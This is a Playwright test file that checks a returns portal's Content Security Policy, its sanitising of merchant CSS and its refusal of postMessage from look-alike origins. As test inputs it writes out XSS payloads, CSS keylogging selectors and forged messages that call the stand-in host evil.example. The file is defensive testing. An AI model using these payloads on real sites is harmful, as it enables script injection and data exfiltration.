import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page, type Request } from '@playwright/test';
import type { calls, Envelope, ShopSettings, StoreConfig } from '@return-center/contract';
import { present, signedInShopper, walkToCheckStep, withBootData, type Reply } from './support.js';

/**
 * Issue #9, Chromium checks: merchant content that would run script or load from elsewhere does neither, the page's
 * CSP needs a nonce for every script and style, and messages from look-alike origins change nothing.
 */

const merchant = { authorization: 'Bearer demo-merchant-key' };
const EVIL = 'https://evil.example';

/** The page's window with the function `watch` exposes to it. */
type WatchedWindow = typeof window & { reportViolation: (text: string) => Promise<number> };
/** The page's window, where a script that should never run would leave its mark. */
type TargetWindow = typeof window & { pwned?: string };

/** Records every CSP violation, and every request that went out to another origin than the portal's. */
async function watch(page: Page, portalOrigin: string) {
  const violations: string[] = [];
  const foreign: string[] = [];
  await page.exposeFunction('reportViolation', (text: string) => violations.push(text));
  await page.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', (event) => {
      void (window as WatchedWindow).reportViolation(
        `${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber} ${event.sample}`,
      );
    }),
  );
  // A request the CSP blocks never reaches the network (Playwright still reports it, failed with 'csp').
  const leftOrigin = (request: Request) => {
    const url = new URL(request.url());
    if (url.protocol.startsWith('http') && url.origin !== portalOrigin) foreign.push(request.url());
  };
  page.on('requestfinished', leftOrigin);
  page.on('requestfailed', (request) => {
    if (request.failure()?.errorText !== 'csp') leftOrigin(request);
  });
  return { violations, foreign };
}

/**
 * The store configuration the portal receives, rewritten on its way (in the page and from getConfig) as if the server's
 * sanitiser had let `change` through: the one case where the test cannot set it through the merchant API, since the
 * server cleans the merchant's CSS and texts before any shopper gets them (ADR 027).
 */
async function asIfUnsanitised(page: Page, change: (config: StoreConfig) => void) {
  await page.route('**/go-api/v1/client/getConfig', async (route) => {
    const response = await route.fetch();
    const body = (await response.json()) as Reply<typeof calls.getConfig>;
    change(body.data);
    await route.fulfill({ response, json: body });
  });
  await withBootData(page, (boot) => {
    change(boot.config);
    return boot;
  });
}

test('a clean walk through the journey breaks no rule of the page’s CSP', async ({ page, request, baseURL }) => {
  const seen = await watch(page, new URL(present(baseURL, 'baseURL')).origin);
  const shopper = await signedInShopper(page, request);
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'Orders' })).toBeVisible();
  await walkToCheckStep(page, shopper.orderName);
  const csp = present((await page.request.get('/')).headers()['content-security-policy'], 'the CSP header of /');
  expect(csp).toMatch(/script-src 'nonce-[^']+' 'strict-dynamic'/);
  expect(csp).toMatch(/style-src 'self' 'nonce-[^']+'(;| )/);
  expect(csp).not.toContain('unsafe-inline');
  expect(csp).toContain("object-src 'none'");
  expect(csp).toContain("base-uri 'none'");
  expect(seen.violations).toEqual([]);
});

test('hostile merchant CSS and texts run no script and load nothing from other origins', async ({ page, baseURL }) => {
  const seen = await watch(page, new URL(present(baseURL, 'baseURL')).origin);
  page.on('dialog', (dialog) => void dialog.dismiss());
  // The configuration as if the server's sanitiser had let everything through: the CSP alone must hold.
  await asIfUnsanitised(page, (config) => {
    config.custom_css = [
      `@import url(${EVIL}/import.css);`,
      `input[value^="a"] { background-image: url(${EVIL}/key?a) }`,
      `body { background: image-set("${EVIL}/set.png" 1x) }`,
      `@font-face { font-family: x; src: url(${EVIL}/font.woff2) } body { font-family: x }`,
      `</style><script>window.pwned = 'css'</script>`,
    ].join('\n');
    config.style.background_image = `${EVIL}/background.jpg`;
    config.style.font_family = { font: 'x', isDefault: false, link: `${EVIL}/font.css` };
    config.style.portal_top_content = {
      type: 'text',
      value: `<img src=x onerror="window.pwned='text'">Acme`,
      url: `javascript:window.pwned='link'`,
    };
    config.text.order_confirm_button_name = `<script>window.pwned='button'</script>Find`;
  });
  await page.goto('/');
  await page.getByRole('tab', { name: 'Order number' }).click();
  const button = page.getByRole('button', { name: `<script>window.pwned='button'</script>Find` });
  await expect(button).toBeVisible();
  await page.getByRole('textbox', { name: 'Order number' }).fill('a');
  await page.getByText(`<img src=x onerror="window.pwned='text'">Acme`).click();
  await page.waitForLoadState('networkidle');
  expect(await page.evaluate(() => (window as TargetWindow).pwned)).toBeUndefined();
  expect(seen.foreign).toEqual([]);
  // The browser refused each load because of the policy, not by chance.
  expect(seen.violations.some((v) => v.startsWith('style-src') && v.includes('evil.example'))).toBe(true);
  expect(seen.violations.some((v) => v.startsWith('img-src') && v.includes('evil.example'))).toBe(true);
});

test('hostile CSS sent to the merchant API is served as harmless rules', async ({ page, request, baseURL }) => {
  const original = (
    (await (await request.get('/merchant/v1/settings', { headers: merchant })).json()) as Envelope<ShopSettings>
  ).data;
  const hostile = {
    ...original,
    custom_css: `@impor@import t url(${EVIL}/a.css); .rc-not-on-any-page { color: red; background: url(${EVIL}/b.png) } x{background:url(${EVIL}/c`,
  };
  expect((await request.put('/merchant/v1/settings', { headers: merchant, data: hostile })).ok()).toBe(true);
  try {
    const seen = await watch(page, new URL(present(baseURL, 'baseURL')).origin);
    await page.goto('/');
    await expect(page.getByRole('button', { name: 'Start Your Return' })).toBeVisible();
    await page.waitForLoadState('networkidle');
    expect(seen.foreign).toEqual([]);
    expect(seen.violations).toEqual([]);
    const applied = await page.locator('#rc-custom-css').textContent();
    expect(applied).toContain('color');
    expect(applied).not.toContain('evil.example');
  } finally {
    await request.put('/merchant/v1/settings', { headers: merchant, data: original });
  }
});

test.describe.configure({ mode: 'serial' });

test('messages from a look-alike origin change nothing in an embedded portal', async ({ page, request, baseURL }) => {
  // The shop's site at http://127.0.0.1:P frames the portal and, beside it, a page from http://localhost:P: the same
  // server by another name, so a look-alike origin that only an exact comparison tells apart.
  const portalBase = present(baseURL, 'baseURL');
  let shopOrigin = '';
  const site: Server = createServer((req, res) => {
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(
      req.url === '/look-alike'
        ? `<!doctype html><script>
            addEventListener('message', () => {
              const portal = parent.frames[0];
              portal.postMessage({ type: 'pp_return:init', direction: 'rtl' }, '*');
              portal.postMessage({ type: 'pp_return:loadFont', font: 'Evil', link: '${EVIL}/font.css' }, '*');
            });
          </script>`
        : `<!doctype html><html dir="ltr"><body>
            <iframe title="Returns and exchanges" src="${portalBase}/?shop=demo-shop.myshopify.com"></iframe>
            <iframe title="look-alike" src="${shopOrigin.replace('127.0.0.1', 'localhost')}/look-alike"></iframe>
          </body></html>`,
    );
  });
  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
  shopOrigin = `http://127.0.0.1:${(site.address() as AddressInfo).port}`;
  const settings = (
    (await (await request.get('/merchant/v1/settings', { headers: merchant })).json()) as Envelope<ShopSettings>
  ).data;
  const embed_origins = [...settings.embed_origins, shopOrigin];
  expect(
    (await request.put('/merchant/v1/settings', { headers: merchant, data: { ...settings, embed_origins } })).ok(),
  ).toBe(true);
  try {
    const seen = await watch(page, new URL(portalBase).origin);
    await page.goto(`${shopOrigin}/`);
    await expect(
      page.frameLocator('iframe[title="Returns and exchanges"]').getByRole('tab', { name: 'Order number' }),
    ).toBeVisible();
    const portal = present(
      page.frames().find((f) => f.url().startsWith(portalBase)),
      'the portal frame',
    );
    const lookAlike = present(
      page.frames().find((f) => f.url().endsWith('/look-alike')),
      'the look-alike frame',
    );
    expect(embed_origins).not.toContain(new URL(lookAlike.url()).origin);
    // The portal's own listener was added first, so once this later one has seen the font message, both are handled.
    const handled = portal.evaluate(
      () =>
        new Promise<void>((resolve) =>
          addEventListener('message', (e: MessageEvent<unknown>) => {
            if (
              typeof e.data === 'object' &&
              e.data !== null &&
              'type' in e.data &&
              e.data.type === 'pp_return:loadFont'
            )
              resolve();
          }),
        ),
    );
    await lookAlike.evaluate(() => postMessage('go', '*'));
    await handled;
    expect(await portal.evaluate(() => document.documentElement.dir)).toBe('ltr');
    expect(await portal.evaluate(() => document.querySelectorAll('link[data-rc-font]').length)).toBe(0);
    expect(seen.foreign.filter((url) => url.includes('evil.example'))).toEqual([]);
  } finally {
    await request.put('/merchant/v1/settings', { headers: merchant, data: settings });
    site.close();
  }
});
